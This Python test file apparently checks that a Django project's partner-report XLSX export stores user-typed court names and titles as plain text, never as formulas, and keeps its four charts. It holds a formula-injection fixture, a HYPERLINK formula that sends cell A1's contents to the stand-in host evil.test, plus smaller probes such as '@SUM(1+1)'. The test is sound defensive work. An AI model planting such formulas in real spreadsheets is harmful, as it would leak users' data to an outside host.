"""The partner report XLSX: text typed by people (courts, titles) never becomes a formula."""

import io
import zipfile

import pytest
from openpyxl import load_workbook

from himaya.reports import documents, selectors
from himaya.training.tests.factories import EnrolmentFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.test/?x="&A1,"Cliquez")'


def test_report_xlsx_has_no_formula_and_keeps_its_charts(cycle, session):
    cycle.title = "@SUM(1+1)"
    cycle.save()
    for _ in range(3):
        EnrolmentFactory(cycle=cycle, participant__court=FORMULA)
    EnrolmentFactory(cycle=cycle, participant__court="-1+1")
    data = documents.report_xlsx(selectors.cycle_report(cycle))

    workbook = load_workbook(io.BytesIO(data))
    cells = [c for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row]
    assert cells and all(c.data_type != "f" for c in cells)
    courts = {row[0]: row[1] for row in workbook.worksheets[4].iter_rows(values_only=True)}
    assert courts[FORMULA] == 3 and courts["-1+1"] == 1
    assert workbook.worksheets[0]["B1"].value == "@SUM(1+1)"
    assert workbook.worksheets[0]["B1"].data_type == "s"
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        charts = [n for n in archive.namelist() if n.startswith("xl/charts/chart")]
    assert len(charts) == 4  # function, region, gender, court
